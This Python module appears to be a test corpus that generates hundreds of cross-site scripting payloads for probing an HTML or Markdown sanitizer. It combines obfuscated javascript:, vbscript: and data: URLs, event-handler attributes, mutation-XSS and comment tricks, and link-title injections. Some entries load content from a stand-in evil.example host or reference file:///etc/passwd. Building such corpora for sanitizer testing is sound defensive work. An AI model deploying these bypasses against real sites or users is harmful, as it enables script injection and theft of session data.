"""Texts that people might write to have something carried out by whoever reads them."""

from __future__ import annotations

from collections.abc import Iterator

_CALL = "fired(1)"
_SCHEMES = (
    *("javascript:", "JAVASCRIPT:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\rscript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#x6a avascript:", "&#0000106avascript:", "javascript&colon;"),
    *("javascript&#58;", "javascript&#x3A;", "java&Tab;script:", "java&NewLine;script:", "\x01javascript:"),
    *("&#1;javascript:", "%6aavascript:", "javascript%3A", "\\javascript:", "java\\script:", "javascript\\:"),
    *("jav&#x09;ascript:", "jav&#x0A;ascript:", "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:"),
    *("ｊavascript:", "view-source:javascript:", "vbscript:", "VBSCRIPT:", "livescript:", "mocha:", "feed:javascript:"),
    *("data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==//", "DATA:text/html,"),
    *("data:image/svg+xml,<svg onload=fired(1)>", "d&#97;ta:text/html,", "blob:", "file:///etc/passwd#", "about:"),
    *("//evil.example/", "\\\\evil.example\\", "https:javascript:", "jar:", "filesystem:", "ws://evil.example/"),
)
_LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "t")',
    "<{0}>",
    "[x][a]\n\n[a]: {0}",
    "[x][a]\n\n[a]: <{0}>",
    "![x]({0})",
    "[![x]({0})]({0})",
    '<a href="{0}">x</a>',
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onpointerrawupdate",
    "onanimationstart",
    "onbeforetoggle",
    "onscrollsnapchange",
    "ONLOAD",
    "on\u0131oad",
    "onload\x00",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "marquee",
    "object data=x",
    "embed src=x",
    "math",
    "a href=# autofocus",
    "div contenteditable",
    "style",
    "select autofocus",
    "textarea autofocus",
    "keygen autofocus",
    "x tabindex=1",
    "button popovertarget=x",
    "link rel=stylesheet href=x",
    "image src=x",
    "isindex type=image src=x",
    "svg><animate",
    "svg><set",
)
_BY_HAND = (
    "<script>fired(1)</script>",
    "<SCRIPT>fired(1)</SCRIPT>",
    "<scr<script>ipt>fired(1)</scr</script>ipt>",
    "<script/x>fired(1)</script>",
    "<script\n>fired(1)</script\n>",
    "<<script>fired(1);//<</script>",
    "&lt;script&gt;fired(1)&lt;/script&gt;",
    "&#60;script&#62;fired(1)&#60;/script&#62;",
    "\\<script>fired(1)\\</script>",
    "<!--><script>fired(1)</script>-->",
    "<!-- --!><script>fired(1)</script>",
    "<![CDATA[<script>fired(1)</script>]]>",
    "<?xml ?><script>fired(1)</script>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]><script>fired(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=fired(1)>">',
    "<textarea></textarea><script>fired(1)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fired(1)&gt;">',
    "<svg><style><img src=x onerror=fired(1)></style></svg>",
    "<form id=x></form><button form=x formaction=javascript:fired(1)>",
    "<template><script>fired(1)</script></template>",
    "<base href=javascript:fired(1)//>",
    "<a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:fired(1)'>",
    "<iframe srcdoc='<script>parent.fired(1)</script>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    '```html"><script>fired(1)</script>\nx\n```',
    "```\n<script>fired(1)</script>",
    "`<script>fired(1)</script>`",
    '~~~" onmouseover="fired(1)\n~~~',
    "    <script>fired(1)</script>",
    "1. <script>fired(1)</script>",
    "> <img src=x onerror=fired(1)>",
    "# <img src=x onerror=fired(1)>",
    "| a |\n|---|\n| <img src=x onerror=fired(1)> |",
    '[x](https://a.example "onmouseover=fired(1)")',
    "[x](https://a.example '\" onmouseover=fired(1) x=\"')",
    '[x](https://a.example" onmouseover=fired(1) x=")',
    "[<img src=x onerror=fired(1)>](https://a.example)",
    '[x](https://a.example/?q="><script>fired(1)</script>)',
    '<https://a.example/"onmouseover="fired(1)>',
    '<a@b.example"onmouseover="fired(1)>',
    "![](https://tracker.example/pixel.gif)",
    '![x](x "onerror=fired(1)")',
    '![x" onerror="fired(1)](https://tracker.example/pixel.gif)',
    "[x]: https://tracker.example\n\n![x]",
    "*<b onclick=fired(1)>*x*</b>*",
    "**x<svg/onload=fired(1)>**",
    "~~<svg onload=fired(1)>~~",
    "x\x00<script>fired(1)</script>",
    "<scri\x00pt>fired(1)</scri\x00pt>",
    "<img src=`x`onerror=fired(1)>",
    "<img/src='x'/onerror='fired(1)'>",
    "<div id=app></div><div name=fired class=modal data-action=delete hx-get=/x>",
    "<slot><dialog open>x</dialog></slot>",
)


def attacks() -> Iterator[str]:
    """Every spelling in every place."""
    yield from _BY_HAND
    for link in _LINKS:
        for scheme in _SCHEMES:
            yield link.format(f"{scheme}{_CALL}")
    for tag in _TAGS:
        yield f"<{tag} onload={_CALL} onerror={_CALL}>"
        yield f"x <{tag}/onfocus='{_CALL}'\n>y"
    for event in _EVENTS:
        yield f'<p {event}="{_CALL}">x</p>'
        yield f"[x](https://a.example){{{event}={_CALL}}}"
